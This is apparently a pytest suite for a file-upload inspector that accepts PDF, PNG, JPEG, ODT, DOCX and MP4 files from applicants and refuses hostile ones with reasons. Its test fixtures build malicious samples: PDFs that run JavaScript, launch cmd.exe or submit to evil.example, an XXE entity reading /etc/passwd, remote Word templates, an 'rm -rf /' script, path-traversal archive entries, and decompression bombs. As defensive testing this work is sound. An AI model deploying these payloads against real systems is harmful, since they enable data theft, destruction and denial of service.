"""What applicants may hand in, and what is turned away with a reason."""

from __future__ import annotations

import contextlib
import io
import os
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Mapping
from hashlib import sha256
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from labels.applications.uploads.inspecting import Source, inspect, inspect_all
from labels.applications.uploads.limits import MIB, MediaType, UploadLimits
from labels.applications.uploads.names import safe_name
from labels.errors import InvalidInput

ODT, DOCX = MediaType.ODT.value, MediaType.DOCX.value
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def a_pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **save: object) -> bytes:
    with pikepdf.Pdf.new() as pdf:
        pdf.add_blank_page()
        if change:
            change(pdf)
        file = io.BytesIO()
        pdf.save(file, **save)  # type: ignore[arg-type]  # the options differ in type
        return file.getvalue()


def a_picture(kind: str = "PNG", size: tuple[int, int] = (60, 40)) -> bytes:
    file = io.BytesIO()
    Image.effect_noise(size, 50).save(file, kind)
    return file.getvalue()


def an_archive(parts: Mapping[str, str | bytes], packed: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", packed) as archive:
        for name, content in parts.items():
            plain = zipfile.ZIP_STORED if name == "mimetype" else None
            archive.writestr(name, content, compress_type=plain)
    return file.getvalue()


def an_odt(**more: str | bytes) -> bytes:
    return an_archive(
        {
            "mimetype": ODT,
            "content.xml": "<document>text</document>",
            "META-INF/manifest.xml": '<m:manifest xmlns:m="urn:manifest"/>',
            **more,
        }
    )


TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    f'<Override PartName="/word/document.xml" ContentType="{DOCX}.main+xml"/></Types>'
)


def a_docx(**more: str | bytes) -> bytes:
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": f'<Relationships xmlns="{RELATIONS}"/>',
        "word/document.xml": f'<w:document xmlns:w="{W}"/>',
    }
    return an_archive(parts | more)


def a_relation(kind: str, target: str) -> str:
    return (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )


def a_box(kind: bytes, inside: bytes = b"") -> bytes:
    return struct.pack(">I4s", 8 + len(inside), kind) + inside


def an_mp4(brand: bytes = b"isom") -> bytes:
    return (
        a_box(b"ftyp", brand + bytes(4) + brand)
        + a_box(b"moov", a_box(b"mvhd", bytes(100)) + a_box(b"trak", bytes(50)))
        + a_box(b"mdat", bytes(500))
    )


ACCEPTED = {
    "plan.pdf": (a_pdf(), MediaType.PDF),
    "photo.png": (a_picture("PNG"), MediaType.PNG),
    "photo.jpg": (a_picture("JPEG"), MediaType.JPEG),
    "story.odt": (an_odt(), MediaType.ODT),
    "story.docx": (a_docx(), MediaType.DOCX),
    "film.mp4": (an_mp4(), MediaType.MP4),
}


def reasons(*sources: Source, limits: UploadLimits | None = None) -> list[str]:
    """Why they are refused, a line for each fault."""
    with pytest.raises(InvalidInput) as refused:
        inspect_all(sources, limits or UploadLimits())
    assert all(fault.where and fault.remedy for fault in refused.value.faults)
    return [str(fault) for fault in refused.value.faults]


@pytest.mark.parametrize("name", ACCEPTED)
def test_each_kind_is_accepted_and_known_by_its_content(name: str) -> None:
    content, media_type = ACCEPTED[name]
    upload = inspect((name, content))
    assert (upload.name, upload.media_type, upload.content) == (name, media_type, content)
    assert (upload.sha256, upload.size) == (sha256(content).hexdigest(), len(content))


@pytest.mark.parametrize(
    "content",
    [
        a_pdf(linearize=True),
        a_pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
        an_mp4(b"mp42"),
        an_mp4(b"M4V "),
        an_mp4(b"iso5"),
        an_mp4()[: -8 - 500] + struct.pack(">I4sQ", 1, b"mdat", 516) + bytes(500),
        an_mp4()[: -8 - 500] + struct.pack(">I4s", 0, b"mdat") + bytes(500),
        an_archive(
            {
                "word/document.xml": f'<w:document xmlns:w="{W}"/>',
                "docProps/app.xml": "<a/>",
                "[Content_Types].xml": TYPES,
            }
        ),
        a_docx(**{"word/_rels/settings.xml.rels": a_relation("attachedTemplate", "file:///C:/Normal.dotm")}),
        a_docx(**{"word/_rels/document.xml.rels": a_relation("hyperlink", "https://example.org")}),
    ],
)
def test_what_usual_programs_write_is_accepted(content: bytes) -> None:
    inspect(("file", content))


def test_a_wrong_ending_is_put_right() -> None:
    assert inspect(("photo.png", a_picture("JPEG"))).name == "photo.jpg"
    assert inspect(("setup.exe", a_pdf())).name == "setup.pdf"


@pytest.mark.parametrize(
    "content",
    [
        b"plain text",
        b"<html><script>alert(1)</script></html>",
        b"<html>%PDF-1.7</html>",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"MZ\x90\x00" + bytes(200),
        b"\x7fELF" + bytes(200),
        b"GIF89a" + bytes(200),
        b"#!/bin/sh\nrm -rf /\n",
        bytes(1000),
        an_archive({"a.txt": "b"}),
        an_archive({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<a/>"}),
        an_archive({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<a/>"}),
        b"PK\x03\x04" + bytes(100),
        a_box(b"ftyp", b"heic" + bytes(4)) + bytes(100),
        a_box(b"ftyp", b"qt  " + bytes(4)) + a_box(b"moov") + a_box(b"mdat"),
    ],
)
def test_another_kind_is_refused_whatever_its_name(content: bytes) -> None:
    for name in ACCEPTED:
        assert reasons((name, content))[0].startswith(
            f"{name}: It is not a PDF, PNG, JPEG, ODT, DOCX or MP4 file"
        )


def _javascript_on_opening(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def _javascript_deep_inside(pdf: pikepdf.Pdf) -> None:
    action = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)"))
    )
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(Next=pikepdf.Array([action])))


def _attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["x.exe"] = b"MZ"


def _launch(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))


def _xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(b"<xdp/>"))


def _submission(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example")
    )


def _player(pdf: pikepdf.Pdf) -> None:
    player = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia)
    pdf.pages[0].obj.Annots = pikepdf.Array([player])


@pytest.mark.parametrize("grouped", [pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate])
@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (_javascript_on_opening, "It contains JavaScript."),
        (_javascript_deep_inside, "It contains JavaScript."),
        (_attachment, "It has other files inside."),
        (_launch, "It starts programs."),
        (_xfa, "It is a dynamic (XFA) form."),
        (_submission, "It sends what is typed into it to an address."),
        (_player, "It contains a player or program."),
    ],
)
def test_a_pdf_that_does_more_than_show_pages_is_refused(
    change: Callable[[pikepdf.Pdf], None], reason: str, grouped: pikepdf.ObjectStreamMode
) -> None:
    assert any(reason in line for line in reasons(("a.pdf", a_pdf(change, object_stream_mode=grouped))))


def _opens(**action: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pikepdf.Dictionary(**action)

    return change


def _on_the_first_page(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.Print))


def _elsewhere(pdf: pikepdf.Pdf) -> None:
    link = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil.example\\share\\a.pdf"))
    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=link)
    pdf.pages[0].obj.Annots = pikepdf.Array([annotation])


_TO_A_PAGE = pikepdf.Name.GoTo
_ASKS_AN_ADDRESS = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/seen"))


def _by_an_object_of_its_own(action: pikepdf.Object) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(action)

    return change


def _by_a_stream(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_stream(b"", S=_TO_A_PAGE, D=pikepdf.String("a"))


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (_opens(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/seen")), "when it is opened"),
        (_opens(S=pikepdf.Name.Named, N=pikepdf.Name.Print), "when it is opened"),
        (_opens(S=_TO_A_PAGE, D=pikepdf.String("a"), Next=_ASKS_AN_ADDRESS), "when it is opened"),
        (_opens(URI=pikepdf.String("https://evil.example")), "when it is opened"),
        (
            _opens(S=_TO_A_PAGE, D=pikepdf.String("a"), Next=pikepdf.Array([_ASKS_AN_ADDRESS])),
            "when it is opened",
        ),
        (_opens(S=_TO_A_PAGE, D=_ASKS_AN_ADDRESS), "when it is opened"),
        (_opens(S=_TO_A_PAGE), "when it is opened"),
        (
            _opens(S=pikepdf.Name.GoToR, F=pikepdf.String("a.pdf"), D=pikepdf.Array([0])),
            "It opens other files.",
        ),
        (_by_an_object_of_its_own(_ASKS_AN_ADDRESS), "when it is opened"),
        (_by_a_stream, "when it is opened"),
        (_on_the_first_page, "while it is read"),
        (_elsewhere, "It opens other files."),
    ],
)
def test_a_pdf_that_acts_on_opening_is_refused(change: Callable[[pikepdf.Pdf], None], reason: str) -> None:
    assert any(reason in line for line in reasons(("a.pdf", a_pdf(change))))


def _at_a_place_of_a_page(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.XYZ, None, None, 0])


@pytest.mark.parametrize(
    "place",
    [
        _at_a_place_of_a_page,
        lambda pdf: pdf.make_indirect(_at_a_place_of_a_page(pdf)),
        lambda pdf: pikepdf.String("section.1"),
        lambda pdf: pikepdf.Name("/section.1"),
        lambda pdf: pikepdf.Dictionary(S=_TO_A_PAGE, D=_at_a_place_of_a_page(pdf)),
        lambda pdf: pdf.make_indirect(pikepdf.Dictionary(S=_TO_A_PAGE, D=pikepdf.String("section.1"))),
    ],
    ids=["a page", "an object of its own", "a name", "a former name", "going to a page", "going to a name"],
)
def test_a_pdf_that_begins_at_a_place_in_itself_and_links_to_a_page_is_accepted(
    place: Callable[[pikepdf.Pdf], pikepdf.Object],
) -> None:
    def as_office_programs_do(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0].obj
        pdf.Root.OpenAction = place(pdf)
        link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://school.example"))
        page.Annots = pikepdf.Array(
            [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=link)]
        )

    assert inspect(("a.pdf", a_pdf(as_office_programs_do))).media_type is MediaType.PDF


def _zipped() -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("run.hta", "<script>")
    return content.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "what"),
    [
        ("a.pdf", lambda: a_pdf() + _zipped(), "an archive"),
        ("a.png", lambda: a_picture("PNG") + _zipped(), "an archive"),
        ("a.jpg", lambda: a_picture("JPEG") + _zipped(), "an archive"),
        (
            "a.pdf",
            lambda: a_pdf().replace(b"\n", b"\n%<script src=//evil.example></script>\n", 1),
            "a web page",
        ),
    ],
)
def test_a_file_of_two_kinds_at_once_is_refused(name: str, content: Callable[[], bytes], what: str) -> None:
    assert any(f"two kinds at once ({what})" in line for line in reasons((name, content())))


def test_escapes_do_not_hide_a_script() -> None:
    def scripted(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"))

    hidden = a_pdf(scripted, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    hidden = hidden.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JavaScript", b"/#4aavaScript")
    assert b"/JavaScript" not in hidden
    with pytest.raises(InvalidInput):
        inspect(("a.pdf", hidden))


def test_words_about_scripts_are_no_scripts() -> None:
    def titled(pdf: pikepdf.Pdf) -> None:
        pdf.docinfo["/Title"] = "How we learned /JavaScript and /Launch with /JS"

    inspect(("a.pdf", a_pdf(titled)))


@pytest.mark.parametrize("user", ["", "word"])
def test_an_encrypted_pdf_is_refused(user: str) -> None:
    locked = a_pdf(encryption=pikepdf.Encryption(owner="owner", user=user))
    assert "password" in reasons(("a.pdf", locked))[0]


@pytest.mark.parametrize("linearize", [True, False])
@pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.98])
def test_a_pdf_cut_off_is_refused(share: float, linearize: bool) -> None:
    def filled(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.Contents = pdf.make_stream(os.urandom(5_000))

    whole = a_pdf(filled, linearize=linearize)
    assert "damaged or incomplete" in reasons(("a.pdf", whole[: int(len(whole) * share)]))[0]


def test_a_pdf_without_pages_is_refused() -> None:
    empty = pikepdf.Pdf.new()
    file = io.BytesIO()
    empty.save(file)
    assert "no pages" in reasons(("a.pdf", file.getvalue()))[0]


@pytest.mark.slow
def test_a_pdf_whose_objects_unfold_to_hundreds_of_megabytes_is_refused() -> None:
    assert "damaged or incomplete" in reasons(("a.pdf", _pdf_bomb()))[0]


def _pdf_bomb() -> bytes:
    """A small file with a group of objects that unfolds to 100 MiB."""
    pdf, places = b"%PDF-1.5\n", []
    packer = zlib.compressobj(9)
    group = packer.compress(b"5 0 <</A 1>>")
    for _ in range(100):
        group += packer.compress(b" " * MIB)
    group += packer.flush()
    for number, body in enumerate(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>",
            b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
            % (len(group), group),
        ],
        1,
    ):
        places.append(len(pdf))
        pdf += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    places.append(len(pdf))
    rows = [(0, 0, 255), *((1, place, 0) for place in places[:4]), (2, 4, 0), (1, places[4], 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    pdf += b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n%s\nendstream\nendobj\n" % (
        len(table),
        table,
    )
    return pdf + b"startxref\n%d\n%%%%EOF\n" % places[4]


@pytest.mark.parametrize("kind", ["PNG", "JPEG"])
@pytest.mark.parametrize("share", [0.05, 0.5, 0.95])
def test_a_picture_cut_off_is_refused(kind: str, share: float) -> None:
    whole = a_picture(kind, (300, 200))
    assert f"does not open as a {kind} picture" in reasons(("a", whole[: int(len(whole) * share)]))[0]


def test_a_picture_that_claims_a_billion_pixels_is_refused_without_unfolding_it() -> None:
    def chunk(kind: bytes, inside: bytes) -> bytes:
        return struct.pack(">I", len(inside)) + kind + inside + struct.pack(">I", zlib.crc32(kind + inside))

    for width in (9_000, 60_000):
        head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, width, 8, 2, 0, 0, 0))
        bomb = b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b"")
        assert "at most 64 million are accepted" in reasons(("a.png", bomb))[0]


ODD_ENTRY = {"../../etc/cron.d/x": "x", "/etc/x": "x", "..\\x": "x", "C:x": "x"}


@pytest.mark.parametrize("name", ODD_ENTRY)
def test_an_archive_that_reaches_out_of_its_folder_is_refused(name: str) -> None:
    for make in (an_odt, a_docx):
        assert "outside its folder" in reasons(("a", make(**{name: "x"})))[0]


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (an_odt(**{"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
        (an_odt(**{"Scripts/python/x.py": "import os"}), "macros"),
        (a_docx(**{"word/vbaProject.bin": b"\xd0\xcf"}), "macros"),
        (a_docx(**{"word/VBAPROJECT.BIN": b"\xd0\xcf"}), "macros"),
        (
            a_docx(**{"[Content_Types].xml": TYPES.replace("document.main", "document.macroEnabled.main")}),
            "macros",
        ),
        (a_docx(**{"word/activeX/activeX1.xml": "<a/>"}), "ActiveX"),
        (a_docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "other files inside"),
        (
            a_docx(
                **{
                    "word/_rels/settings.xml.rels": a_relation(
                        "attachedTemplate", "https://evil.example/t.dotm"
                    )
                }
            ),
            "template from another machine",
        ),
        (
            a_docx(
                **{"word/_rels/settings.xml.rels": a_relation("attachedTemplate", "file://evil/share/t.dotm")}
            ),
            "template from another machine",
        ),
        (
            a_docx(
                **{"word/_rels/settings.xml.rels": a_relation("attachedTemplate", r"\\evil\share\t.dotm")}
            ),
            "template from another machine",
        ),
        (a_docx(**{"[Content_Types].xml": "<Types/>"}), "does not say that it is a text document"),
        (a_docx(**{"word/document.xml": "<unclosed>"}), "damaged"),
        (an_odt(**{"content.xml": ""}), "damaged"),
        (an_odt(**{"content.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "damaged"),
        (
            an_odt(**{"content.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
            "damaged",
        ),
        (
            an_odt(**{"META-INF/manifest.xml": '<m:e xmlns:m="urn:m"><m:encryption-data/></m:e>'}),
            "encrypted",
        ),
        (an_archive({"mimetype": ODT}), "damaged"),
    ],
)
def test_an_office_document_with_programs_or_without_sense_is_refused(content: bytes, reason: str) -> None:
    assert reason in reasons(("a", content))[0]


@pytest.mark.parametrize("make", [an_odt, a_docx])
def test_an_archive_that_unfolds_too_far_is_refused(make: Callable[..., bytes]) -> None:
    few = UploadLimits(archive_entries=50, archive_bytes=3 * MIB, archive_ratio=20)
    assert "more than 50 parts" in reasons(("a", make(**{f"p{n}": "x" for n in range(60)})), limits=few)[0]
    assert "unfolds to more than 3 MiB" in reasons(("a", make(big=os.urandom(4 * MIB))), limits=few)[0]
    assert "20 times its size" in reasons(("a", make(big=bytes(2 * MIB))), limits=few)[0]


@pytest.mark.parametrize("make", [an_odt, a_docx])
def test_an_archive_cut_off_or_altered_is_refused(make: Callable[..., bytes]) -> None:
    whole = make(extra=b"0123456789" * 100)
    assert "damaged" in reasons(("a", whole[:-30]))[0]
    place = whole.index(b"extra") + len(b"extra") + 5
    altered = whole[:place] + bytes([whole[place] ^ 0xFF]) + whole[place + 1 :]
    assert "damaged" in reasons(("a", altered))[0]


@pytest.mark.parametrize(
    "content",
    [
        an_mp4()[:-1],
        an_mp4()[:100],
        a_box(b"ftyp", b"isom" + bytes(4)),
        a_box(b"ftyp", b"isom" + bytes(4)) + a_box(b"mdat", bytes(10)),
        a_box(b"ftyp", b"isom" + bytes(4)) + a_box(b"moov") + a_box(b"mdat", bytes(10)),
        an_mp4() + b"<html>",
        a_box(b"ftyp", b"isom" + bytes(4)) + struct.pack(">I4s", 3, b"moov"),
        a_box(b"ftyp", b"isom" + bytes(4)) + struct.pack(">I4sQ", 1, b"moov", 2**63),
    ],
)
def test_a_film_that_is_not_whole_is_refused(content: bytes) -> None:
    assert "does not play as an MP4 video" in reasons(("a.mp4", content))[0]


@given(st.sampled_from(sorted(ACCEPTED)), st.data())
def test_no_damage_to_a_file_leads_to_anything_but_acceptance_or_a_reason(
    name: str, choose: st.DataObject
) -> None:
    content = bytearray(ACCEPTED[name][0])
    for _ in range(choose.draw(st.integers(1, 5))):
        content[choose.draw(st.integers(0, len(content) - 1))] = choose.draw(st.integers(0, 255))
    del content[choose.draw(st.integers(0, len(content))) :]
    with contextlib.suppress(InvalidInput):
        inspect((name, bytes(content)))


def test_every_fault_of_every_file_is_named_at_once(tmp_path: Path) -> None:
    def both(pdf: pikepdf.Pdf) -> None:
        _javascript_on_opening(pdf)
        _attachment(pdf)

    (tmp_path / "empty.pdf").touch()
    os.mkfifo(tmp_path / "pipe")
    lines = reasons(
        ("ok.pdf", a_pdf()),
        ("two.pdf", a_pdf(both)),
        ("text.png", b"text"),
        tmp_path / "empty.pdf",
        tmp_path / "missing.pdf",
        tmp_path,
        tmp_path / "pipe",
        tmp_path / ("long" * 100),
        tmp_path / "nul\0byte",
        ("big.mp4", bytes(3 * MIB)),
        limits=UploadLimits(file_bytes=2 * MIB, total_bytes=3 * MIB),
    )
    assert [line.partition(": ")[2][:30] for line in lines] == [
        "It contains JavaScript. Print ",
        "It has other files inside. Pri",
        "It is not a PDF, PNG, JPEG, OD",
        "It is empty. Choose the file a",
        "There is no such file. Check t",
        "It is a folder; a file was exp",
        "It is a device or pipe; a file",
        "It cannot be read: File name t",
        "It cannot be read: embedded nu",
        "It is 3 MiB; at most 2 MiB are",
        "They are 3.1 MiB; at most 3 Mi",
    ]


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every file")
def test_a_file_without_permission_is_named(tmp_path: Path) -> None:
    locked = tmp_path / "locked.pdf"
    locked.write_bytes(a_pdf())
    locked.chmod(0)
    assert "Permission denied" in reasons(locked)[0]


def test_a_file_above_the_limit_is_not_even_read(tmp_path: Path) -> None:
    sparse = tmp_path / "huge.mp4"
    with sparse.open("wb") as file:
        file.truncate(50 * 1024 * MIB)
    assert "It is 51200 MiB; at most 20 MiB" in reasons(sparse)[0]


def test_the_limits_are_twenty_and_a_hundred_mebibytes() -> None:
    film = an_mp4()[: -8 - 500]
    largest = film + a_box(b"mdat", bytes(20 * MIB - len(film) - 8))
    assert len(inspect_all([("a.mp4", largest)] * 5)) == 5
    assert "They are 120 MiB; at most 100 MiB" in reasons(*[("a.mp4", largest)] * 6)[0]
    assert "at most 20 MiB are accepted" in reasons(("a.mp4", largest + a_box(b"free")))[0]


def test_more_files_than_a_person_can_read_are_refused() -> None:
    assert "There are 101; at most 100" in reasons(*[("a.pdf", b"")] * 101)[0]


def test_a_file_is_read_from_its_path(tmp_path: Path) -> None:
    path = tmp_path / "Ζωή σχέδιο.pdf"
    path.write_bytes(a_pdf())
    assert inspect(path).name == "Ζωή σχέδιο.pdf"


def test_no_two_files_of_an_application_share_a_name() -> None:
    sources: list[Source] = [
        ("a/plan.pdf", a_pdf()),
        ("b/PLAN.pdf", a_pdf()),
        ("plan.txt", a_pdf()),
        ("plan (2).pdf", a_pdf()),
        ("plan.png", a_picture()),
        ("ｐlan.pdf", a_pdf()),
        ("x" * 300, a_pdf()),
        ("x" * 400, a_pdf()),
    ]
    names = [upload.name for upload in inspect_all(sources)]
    assert names[:5] == ["plan.pdf", "PLAN (2).pdf", "plan (3).pdf", "plan (2) (2).pdf", "plan.png"]
    assert names[5] == "plan (4).pdf", "a letter of double width is the plain one"
    assert names[6:] == ["x" * 96 + ".pdf", "x" * 92 + " (2).pdf"]


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\teacher\\plan.pdf", "plan.pdf"),
        ("/tmp/plan.pdf/", "plan.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("...", "document.pdf"),
        ("", "document.pdf"),
        (".pdf", "document.pdf"),
        ("exe\u202efdp.exe", "exefdp.pdf"),
        ("a\r\nb\tc\0.pdf", "a b c.pdf"),
        ("👩\u200d" * 200, "document.pdf"),
        ("CON", "_CON.pdf"),
        ("-rf.pdf", "_-rf.pdf"),
        ("nul.pdf", "_nul.pdf"),
        ("Console.pdf", "Console.pdf"),
        ('<b>"x"|y?*:z</b>.pdf', "b_.pdf"),
        ("=cmd()", "=cmd().pdf"),
        ("report.v2", "report.v2.pdf"),
        ("report v1.5", "report v1.5.pdf"),
        ("plan.PDF", "plan.pdf"),
        ("e\u0301te\u0301.pdf", "été.pdf"),
        ("Σχέδιο δράσης.pdf", "Σχέδιο δράσης.pdf"),
        ("გეგმა.docx", "გეგმა.pdf"),
        ("خطة العمل.pdf", "خطة العمل.pdf"),
        ("project 👩‍🏫.pdf", "project 👩‍🏫.pdf"),
        ("\udcff\udcfe.pdf", "document.pdf"),
    ],
)
def test_a_name_is_made_safe_and_stays_readable(given_name: str, kept: str) -> None:
    assert safe_name(given_name, MediaType.PDF) == kept


@given(st.text(), st.sampled_from(MediaType))
def test_every_name_ends_as_one_safe_file_name(given_name: str, media_type: MediaType) -> None:
    name = safe_name(given_name, media_type)
    assert len(name) <= 100
    assert len(name.encode()) <= 200
    assert name[0] not in ". "
    assert name.rpartition(".")[0]
    assert not set(name) & set('/\\<>:"|?*\n\t')
    assert not [c for c in name if unicodedata.category(c) in ("Cc", "Cs")]
    assert unicodedata.is_normalized("NFC", name)
    assert safe_name(name, media_type) == name
